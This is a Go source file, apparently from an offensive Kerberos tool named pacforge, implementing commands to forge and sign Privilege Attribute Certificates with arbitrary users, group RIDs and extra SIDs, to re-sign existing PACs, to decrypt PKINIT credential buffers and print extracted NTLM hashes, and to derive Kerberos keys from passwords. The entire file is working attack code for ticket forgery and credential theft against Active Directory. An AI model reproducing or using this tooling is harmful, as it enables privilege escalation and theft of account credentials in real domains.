package main

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/pacforge/pacforge/pkg/crypto"
	"github.com/pacforge/pacforge/pkg/pac"
)

// UserAccountControl for a typical forged user: NORMAL_ACCOUNT with
// DONT_EXPIRE_PASSWORD.
const forgedUAC = 0x210

// cmdDescribe decodes a PAC and prints a report.
func cmdDescribe(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("PAC file required")
	}

	raw, err := readPACInput(args[0])
	if err != nil {
		return err
	}

	var p pac.Pac
	if err := p.Unmarshal(raw); err != nil {
		return fmt.Errorf("failed to decode PAC: %w", err)
	}

	fmt.Print(p.View())
	return nil
}

// cmdBuild forges a PAC from scratch and signs it.
func cmdBuild(args []string) error {
	if flags.domain == "" {
		return fmt.Errorf("domain is required (-d)")
	}
	if flags.username == "" {
		return fmt.Errorf("username is required (-u)")
	}
	if flags.domainSID == "" {
		return fmt.Errorf("domain SID is required (-s)")
	}

	key, sigType, err := signingMaterial()
	if err != nil {
		return err
	}

	domainSID, err := pac.ParseSID(flags.domainSID)
	if err != nil {
		return err
	}

	groups, err := parseGroupRIDs(flags.groups)
	if err != nil {
		return err
	}

	now := time.Now()
	v := &pac.ValidationInfo{
		LogonTime:          pac.NewFileTime(now),
		LogoffTime:         pac.NeverExpires(),
		KickOffTime:        pac.NeverExpires(),
		PasswordLastSet:    pac.NewFileTime(now),
		PasswordCanChange:  pac.NewFileTime(now),
		PasswordMustChange: pac.NeverExpires(),
		EffectiveName:      flags.username,
		FullName:           flags.fullName,
		UserID:             uint32(flags.rid),
		PrimaryGroupID:     513,
		GroupIDs:           groups,
		LogonDomainName:    strings.ToUpper(flags.domain),
		LogonDomainID:      domainSID,
		UserAccountControl: forgedUAC,
	}

	if flags.extraSIDs != "" {
		for _, s := range strings.Split(flags.extraSIDs, ",") {
			sid, err := pac.ParseSID(strings.TrimSpace(s))
			if err != nil {
				return err
			}
			v.ExtraSIDs = append(v.ExtraSIDs, pac.SidAndAttributes{
				SID:        sid,
				Attributes: pac.GroupAttributesDefault,
			})
		}
		v.UserFlags |= pac.UserFlagExtraSIDs
	}

	serverSig, err := pac.NewSignatureData(int32(sigType))
	if err != nil {
		return err
	}
	kdcSig, err := pac.NewSignatureData(int32(sigType))
	if err != nil {
		return err
	}

	var p pac.Pac
	p.AddBuffer(pac.LogonInfoType, v)
	p.AddBuffer(pac.ClientInfoType, &pac.ClientInfo{
		ClientID: pac.NewFileTime(now),
		Name:     flags.username,
	})
	p.AddBuffer(pac.ServerChecksumType, serverSig)
	p.AddBuffer(pac.KDCChecksumType, kdcSig)

	img, err := p.Sign(key, crypto.Checksum)
	if err != nil {
		return err
	}

	fmt.Printf("[+] Forged PAC for %s\\%s (RID %d, %d groups): %d bytes\n",
		flags.domain, flags.username, flags.rid, len(groups), len(img))
	return writeOutput(img)
}

// cmdResign re-signs an existing PAC with a new key.
func cmdResign(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("PAC file required")
	}

	key, sigType, err := signingMaterial()
	if err != nil {
		return err
	}

	raw, err := readPACInput(args[0])
	if err != nil {
		return err
	}

	img, err := pac.Resign(raw, key, sigType, crypto.Checksum)
	if err != nil {
		return fmt.Errorf("failed to re-sign PAC: %w", err)
	}

	fmt.Printf("[+] Re-signed PAC with %s: %d bytes\n", flags.etype, len(img))
	return writeOutput(img)
}

// cmdCreds decrypts the PAC credential buffer and extracts the NTLM
// hash. This only works on PACs from PKINIT logons, where the KDC
// stuffs the NTLM credentials in for legacy / NTLM-only services.
func cmdCreds(args []string) error {
	if len(args) == 0 {
		return fmt.Errorf("PAC file required")
	}

	key, _, err := signingMaterial()
	if err != nil {
		return err
	}

	raw, err := readPACInput(args[0])
	if err != nil {
		return err
	}

	var p pac.Pac
	if err := p.Unmarshal(raw); err != nil {
		return fmt.Errorf("failed to decode PAC: %w", err)
	}

	buf := p.Buffer(pac.CredentialsType)
	if buf == nil {
		return fmt.Errorf("PAC has no credential buffer (not a PKINIT PAC?)")
	}
	ci, ok := buf.Element.(*pac.CredentialsInfo)
	if !ok {
		return fmt.Errorf("credential buffer did not decode")
	}

	if flags.verbose {
		fmt.Printf("[*] Credential buffer etype %d, %d bytes ciphertext\n",
			ci.EType, len(ci.Encrypted))
	}

	data, err := ci.Decrypt(key, crypto.Decrypt)
	if err != nil {
		return fmt.Errorf("failed to decrypt credentials: %w", err)
	}

	hash, err := data.ExtractNTLMHash()
	if err != nil {
		return err
	}

	user := flags.username
	if user == "" {
		if li := p.Buffer(pac.LogonInfoType); li != nil {
			if v, ok := li.Element.(*pac.ValidationInfo); ok {
				user = v.EffectiveName
			}
		}
	}
	fmt.Printf("%s:%s\n", user, hash)
	return nil
}

// cmdHash computes Kerberos keys from a password.
func cmdHash(args []string) error {
	password := flags.password
	if password == "" && len(args) > 0 {
		password = args[0]
	}
	if password == "" {
		return fmt.Errorf("password required (-p)")
	}

	fmt.Printf("NTLM/RC4: %x\n", crypto.NTLMHash(password))

	if flags.domain != "" && flags.username != "" {
		salt := crypto.BuildAESSalt(strings.ToUpper(flags.domain), flags.username)
		fmt.Printf("AES128:   %x\n", crypto.AES128Key(password, salt))
		fmt.Printf("AES256:   %x\n", crypto.AES256Key(password, salt))
	} else {
		fmt.Println("[*] Provide -d and -u to derive AES keys (salted)")
	}
	return nil
}

// signingMaterial resolves the key and checksum type from flags: an
// explicit hex key, or a password run through the etype's derivation.
func signingMaterial() ([]byte, uint32, error) {
	var sigType uint32
	switch strings.ToLower(flags.etype) {
	case "rc4", "23":
		sigType = pac.ChecksumHMACMD5Unsigned
	case "aes128", "17":
		sigType = pac.ChecksumHMACSHA1AES128
	case "aes256", "18":
		sigType = pac.ChecksumHMACSHA1AES256
	default:
		return nil, 0, fmt.Errorf("unsupported etype: %s", flags.etype)
	}

	if flags.key != "" {
		key, err := hex.DecodeString(flags.key)
		if err != nil {
			return nil, 0, fmt.Errorf("invalid key hex: %w", err)
		}
		return key, sigType, nil
	}

	if flags.password == "" {
		return nil, 0, fmt.Errorf("key required (-k hex or -p password)")
	}

	switch sigType {
	case pac.ChecksumHMACMD5Unsigned:
		return crypto.NTLMHash(flags.password), sigType, nil
	default:
		salt := crypto.BuildAESSalt(strings.ToUpper(flags.domain), flags.username)
		if sigType == pac.ChecksumHMACSHA1AES128 {
			return crypto.AES128Key(flags.password, salt), sigType, nil
		}
		return crypto.AES256Key(flags.password, salt), sigType, nil
	}
}

// readPACInput accepts a file path, a hex string, or base64.
func readPACInput(arg string) ([]byte, error) {
	if raw, err := os.ReadFile(arg); err == nil {
		return raw, nil
	}
	if raw, err := hex.DecodeString(arg); err == nil {
		return raw, nil
	}
	if raw, err := base64.StdEncoding.DecodeString(arg); err == nil {
		return raw, nil
	}
	return nil, fmt.Errorf("not a readable file, hex, or base64: %s", arg)
}

func parseGroupRIDs(s string) ([]pac.GroupMembership, error) {
	var groups []pac.GroupMembership
	for _, part := range strings.Split(s, ",") {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		rid, err := strconv.ParseUint(part, 10, 32)
		if err != nil {
			return nil, fmt.Errorf("invalid group RID %q: %w", part, err)
		}
		groups = append(groups, pac.GroupMembership{
			RelativeID: uint32(rid),
			Attributes: pac.GroupAttributesDefault,
		})
	}
	return groups, nil
}

func writeOutput(data []byte) error {
	if flags.outfile == "" {
		fmt.Printf("%x\n", data)
		return nil
	}
	if err := os.WriteFile(flags.outfile, data, 0o644); err != nil {
		return err
	}
	fmt.Printf("[+] Written to %s\n", flags.outfile)
	return nil
}
